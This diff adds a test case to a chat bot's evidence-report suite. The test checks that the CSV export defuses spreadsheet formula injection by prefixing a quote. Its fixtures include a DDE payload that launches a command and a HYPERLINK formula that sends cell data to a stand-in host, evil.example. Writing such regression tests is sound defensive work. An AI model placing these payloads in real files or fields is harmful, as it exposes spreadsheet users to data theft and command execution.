@@ -103,6 +103,27 @@ describe('the evidence report', () => {
     // The notice text survives quoting (commas, quotes, newlines) unchanged.
     expect(of('notice')[0]?.text).toBe(h.app.ctx.notice.text);
   });
+
+  it('as CSV: a title or name a spreadsheet would run as a formula starts with a quote (OWASP)', async ({
+    h,
+  }) => {
+    h.chat.names.set(ALICE, '@SUM(1+1)*cmd|"/C calc"!A0');
+    h.chat.names.set(BOB, '-2+3');
+    await h.say(ORGANIZER, `!meeting =HYPERLINK("https://evil.example/?"&A1;"x") ${ALICE} ${BOB}`);
+    const csv = evidenceCsv(buildEvidence(h.app.ctx.stores.db, {}));
+    const rows = parse(csv, { columns: true }) as Record<string, string>[];
+    const cells = rows.flatMap((r) => Object.values(r));
+    // No cell starts with a formula character any more (Matrix IDs aside: no function fits in one) …
+    const matrixId = /^@[a-z0-9._=\-/+]+:[a-z0-9.-]+$/;
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !matrixId.test(c))).toEqual([]);
+    // … and each still says what it said, after the quote.
+    expect(rows.find((r) => r.type === 'meeting')?.meeting_title).toBe(
+      `'=HYPERLINK("https://evil.example/?"&A1;"x")`,
+    );
+    const names = rows.filter((r) => r.type === 'invitee').map((r) => r.display_name);
+    expect(names).toContain(`'@SUM(1+1)*cmd|"/C calc"!A0`);
+    expect(names).toContain(`'-2+3`);
+  });
 });
 
 describe('npm run evidence', () => {
